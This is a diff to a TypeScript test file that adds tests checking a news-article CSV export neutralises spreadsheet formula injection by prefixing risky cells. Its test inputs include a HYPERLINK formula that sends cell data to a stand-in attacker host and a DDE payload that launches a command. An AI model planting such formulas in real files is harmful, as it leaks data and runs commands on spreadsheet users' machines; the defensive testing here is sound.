@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import type { Readable } from 'node:stream';
 import { text } from 'node:stream/consumers';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { csvRecord, forSpreadsheets } from '../../admin/commands/export/csv.ts';
 import { PROJECT_FOLDER } from '../../config/settings.ts';
 import { createDatabase } from '../support/database.ts';
 import { wireroomHere } from './run-here.ts';
@@ -78,10 +79,66 @@ test('CSV has a header, CRLF, and quotes where they are needed', async () => {
       'id,title,authors,word_count,paywalled,topics',
       `1,"She said: ""Back,\nat last""","[""Maria Santos"",""Li, Wei""]",2,false,"[{""name"":""transport"",""qcode"":""medtop:20000337"",""score"":0.5,""source"":""classifier""}]"`,
       '3,Plain,[],,false,[]',
-      '4,Corrected \u202ehere,[],,false,[]',
+      '4,Corrected here,[],,false,[]',
       '',
     ].join('\r\n'),
   );
+});
+
+describe('CSV in a spreadsheet', () => {
+  const readBack = (cell: string): string =>
+    /^'[\s"'\u200b-\u200f\ufeff]*?[\t\r=+\-@＝＋－＠]/.test(cell) ? cell.slice(1) : cell;
+
+  test.each([
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    '+1+1',
+    '-2+3+cmd|" /C calc"!A0',
+    '@SUM(1+1)',
+    '\t=1+1',
+    ' =1+1',
+    '"=1+1"',
+    "'=1+1",
+    "''+1",
+    '\ufeff=1+1',
+    '\u200b=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠A1',
+    '-5',
+  ])('%j is a text, and can be read back', (text) => {
+    const [cell] = csvRecord(['title'], { title: text }, forSpreadsheets).split('\r\n');
+    const value = cell?.replace(/^"([\s\S]*)"$/, (_, quoted: string) => quoted.replaceAll('""', '"'));
+    expect(value).toBe(`'${text}`);
+    expect(readBack(value ?? '')).toBe(text);
+  });
+
+  test.each(['Plain', 'a=b', "'tis", '1 - 2', '“-', '', '2026-03-04T12:00:00+00:00', '[-1]', '日本'])(
+    '%j stays as it is',
+    (text) => {
+      expect(csvRecord(['title'], { title: text }, forSpreadsheets)).toBe(`${text}\r\n`);
+      expect(readBack(text)).toBe(text);
+    },
+  );
+
+  test('columns of numbers stay numbers', () => {
+    expect(csvRecord(['n', 'yes', 'none'], { n: -1.5, yes: true, none: null }, forSpreadsheets)).toBe('-1.5,true,\r\n');
+  });
+
+  test('--raw writes everything as it is stored, and is for CSV alone', async () => {
+    await pool.query(`update wireroom.articles set title = E'=1+1\u202e' where id = 3`);
+    const title = async (...options: string[]) =>
+      (await wireroom(['export', '--format', 'csv', '--site', 'inland.example', '--fields', 'title', ...options]))
+        .stdout;
+    expect(await title()).toBe("title\r\n'=1+1\r\n");
+    expect(await title('--raw')).toBe('title\r\n=1+1\u202e\r\n');
+    expect(await wireroom(['export', '--raw'])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr: expect.stringContaining("'--raw' needs '--format csv'"),
+    });
+  });
 });
 
 test('articles are chosen by site, language, and when they became visible or changed', async () => {
